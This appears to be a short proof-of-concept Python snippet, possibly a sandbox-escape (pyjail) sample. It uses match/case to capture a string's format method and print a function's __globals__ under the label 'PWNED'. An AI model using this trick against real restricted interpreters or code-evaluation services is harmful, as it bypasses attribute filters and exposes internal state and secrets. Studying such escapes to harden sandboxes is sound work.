def f():
    pass
match "{0.__globals__}":
    case str(format=show):
        print("PWNED", show(f))
